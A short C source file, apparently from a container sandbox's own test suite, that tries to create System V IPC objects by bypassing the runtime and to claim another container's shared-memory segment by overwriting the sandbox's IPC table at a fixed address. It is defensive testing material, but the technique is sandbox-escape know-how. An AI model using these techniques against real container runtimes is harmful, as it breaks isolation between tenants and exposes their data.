/* SPDX-License-Identifier: MIT */
/*
 * ipc.c - make System V objects that nobody finds, and claim those of others.
 *
 *   ipc make         make objects with any key, past the runtime, and remove them
 *   ipc claim ID     write the id of a foreign segment all over the container's table
 */
#include "attack.h"

#include "base/ipc_abi.h"

#include <sys/ipc.h>
#include <sys/msg.h>
#include <sys/sem.h>
#include <sys/shm.h>

#define TABLE ((struct sb_ipc_table *)0x566800000000)
#define KEY 0x5eed7777

static void try_to_make(const char *what, long get, long control, long key)
{
	const long flags = IPC_CREAT | IPC_EXCL | 0600;
	const long id = get == SYS_msgget ? PAST(get, key, flags) : PAST(get, key, 1, flags);

	attempt(what, id);
	if (id >= 0)
		PAST(control, id, control == SYS_semctl ? 0 : IPC_RMID, IPC_RMID);
}

static void make(void)
{
	try_to_make("make a segment with a key", SYS_shmget, SYS_shmctl, KEY);
	try_to_make("make a segment without a key", SYS_shmget, SYS_shmctl, IPC_PRIVATE);
	try_to_make("make a set with a key", SYS_semget, SYS_semctl, KEY);
	try_to_make("make a set without a key", SYS_semget, SYS_semctl, IPC_PRIVATE);
	try_to_make("make a queue with a key", SYS_msgget, SYS_msgctl, KEY);
	try_to_make("make a queue without a key", SYS_msgget, SYS_msgctl, IPC_PRIVATE);
}

static void claim(int id)
{
	MUST(shmget(KEY, 100, IPC_CREAT | 0600));
	for (int kind = 0; kind < SB_IPC_KINDS; kind++) {
		for (int i = 0; i < SB_IPC_INDEXES; i++)
			TABLE->numbers[kind][i] = (uint16_t)(i % 7);
		for (int i = 0; i < SB_IPC_SLOTS; i++) {
			TABLE->slots[kind][i].key = SB_IPC_HAS_KEY | KEY;
			TABLE->slots[kind][i].object = (uint32_t)id + 1;
		}
	}
	attempt("claim a segment", shmctl(id, IPC_STAT, &(struct shmid_ds){0}) == 0 ? 0 : -errno);
}

int main(int argc, char **argv)
{
	if (argc == 3)
		claim(atoi(argv[2]));
	else
		make();
	return 0;
}
